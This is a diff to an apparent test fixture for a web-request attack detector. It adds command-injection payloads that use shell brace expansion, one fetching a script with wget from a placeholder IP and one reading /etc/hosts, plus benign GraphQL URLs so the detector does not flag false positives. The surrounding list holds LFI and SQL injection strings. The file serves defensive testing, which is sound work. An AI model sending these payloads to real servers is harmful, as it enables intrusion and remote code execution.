@@ -105,6 +105,9 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['lfi-absolute-path', '/view//var/www/config.php'],
   ['lfi-absolute-path', '/page?f=/windows/system32/drivers/etc/networks'],
   ['sqli-case-when', '/item?id=(select (case when (1=2) then 1 else 0 end))'],
+  ['rce-substitution', '/item?id=1|{ls,-la}'], // brace expansion where a command starts
+  ['rce-substitution', '/item?cmd={wget,http://203.0.113.5/a.sh}'],
+  ['rce-substitution', '/item?cmd=c{a,u}t+/etc/hosts'], // inside a word
   ['sqli-numeric-tautology', '/item?id=1 or not 2=3-- -'],
   ['sqli-numeric-tautology', '/item?id=1) where 7=8 or 9>8#'],
   ['sqli-function', '/item?id=iif(1=2,1,1/0)'],
@@ -151,6 +154,8 @@ const BENIGN: readonly string[] = [
   '/feed?style=%3C%3Fxml+version%3D%221.0%22%3F%3E',
   '/search?q=(select+a+size)',
   '/checkout/note?text=leave+at+door%3B+call+me+on+arrival',
+  '/graphql?query=%7Buser(id%3A1)%7Bname%2Cemail%7D%7D', // GraphQL over GET: selections, not brace expansion
+  '/graphql?query=%7Borders%7Bedges%7Bnode%7Bid%2Ctotal%7D%7D%7D%7D',
   '/search?q=size+m%3B+update+me+when+in+stock',
   '/search?q=kids+table%3B+drop-in+chairs',
   '/search?q=window+film+%5Bfrosted%5D',
